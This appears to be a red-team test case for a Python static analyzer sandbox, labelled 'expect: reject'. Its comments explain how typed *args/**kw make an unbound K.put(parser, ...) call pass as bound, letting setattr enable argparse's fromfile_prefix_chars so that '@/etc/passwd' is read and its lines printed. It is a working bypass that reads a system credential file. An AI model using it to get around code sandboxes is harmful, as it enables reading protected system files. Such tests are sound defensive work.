# expect: reject method
# verified: reaches its goal under plain python3 (3.11) in a temp dir (fifth static red team, ok_07_method_arity_typed_splat_unbound_setattr_argparse_fromfile_passwd)
# Mechanism: rule `method` (analyzer/names.c, describe_def / bound_style_call). A method
#   that does setattr(self, name, value) with a computed name is privileged: it may only
#   be called bound, recognised as "exactly the argument count only a bound call has".
#   describe_def counts parameters by node type: a TYPED splat (`*args: object`,
#   `**kw: object`) is a typed_parameter, so it is counted as a required positional
#   parameter and never sets the keyword-only flag. Here put(self, *args: object,
#   **kw: object) gets bound_args = 2, and the UNBOUND call K.put(parser, name=value)
#   has 2 arguments, so it passes as "bound": self is the argparse parser.
#   The setattr then writes fromfile_prefix_chars, which the argparse facade refuses as
#   a keyword of ArgumentParser(...) and as an attribute written out.
#   No dunder name at run time (the name is "fromfile_prefix_chars").
# Goal reached: /etc/passwd read (argparse opens the @file).
# Output under python3:
#   ['root:x:0:0:root:/root:/bin/bash', 'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
#    'bin:x:2:2:bin:/bin:/usr/sbin/nologin', 'sys:x:3:3:sys:/dev:/usr/sbin/nologin',
#    'sync:x:4:65534:sync:/bin:/bin/sync']
import argparse


class K:
    def put(self, *args: object, **kw: object):
        for name, value in kw.items():
            setattr(self, name, value)


parser = argparse.ArgumentParser(prog="p")
parser.add_argument("rest", nargs="*")
K.put(parser, fromfile_prefix_chars="@")
print(parser.parse_args(["@/etc/passwd"]).rest[:5])
